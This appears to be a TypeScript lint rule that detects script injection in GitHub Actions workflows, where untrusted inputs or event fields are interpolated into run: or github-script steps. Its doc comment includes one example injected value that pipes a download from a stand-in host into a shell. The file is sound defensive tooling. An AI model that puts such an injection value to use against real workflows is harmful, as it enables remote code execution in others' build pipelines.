import { stepLabel, type Finding, type Workflow } from '../workflow-model.ts';

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
/** Contexts a person outside the team can set: workflow inputs, the event payload, branch names. */
const UNTRUSTED = /\binputs(?:\.|\[)|\bgithub\.event\b(?!_)|\bgithub\[\s*'event'\s*\]|\bgithub\.head_ref\b|\bgithub\.event_path\b/;

/**
 * No `${{ inputs.* }}` / `${{ github.event.* }}` / `${{ github.head_ref }}` inside a `run:` script (or an
 * actions/github-script `script:`): the runner pastes the value into the script before the shell reads it,
 * so a value like `"; curl evil | sh; "` runs. Pass it through `env:` and use "$NAME" instead.
 */
export function checkRunInjection(workflow: Workflow): Finding[] {
  const findings: Finding[] = [];
  for (const [jobId, job] of Object.entries(workflow.jobs)) {
    (job.steps ?? []).forEach((step, index) => {
      const scripts: string[] = [];
      if (typeof step.run === 'string') scripts.push(step.run);
      if (typeof step.uses === 'string' && /^actions\/github-script@/.test(step.uses) && typeof step.with?.script === 'string') scripts.push(step.with.script);
      for (const script of scripts) {
        for (const match of script.matchAll(EXPRESSION)) {
          if (UNTRUSTED.test(match[1]!)) {
            findings.push({ rule: 'run-injection', file: workflow.file, job: jobId, step: stepLabel(step, index), message: `"${match[0]}" is interpolated into a script: pass it through env: and read "$NAME"` });
          }
        }
      }
    });
  }
  return findings;
}
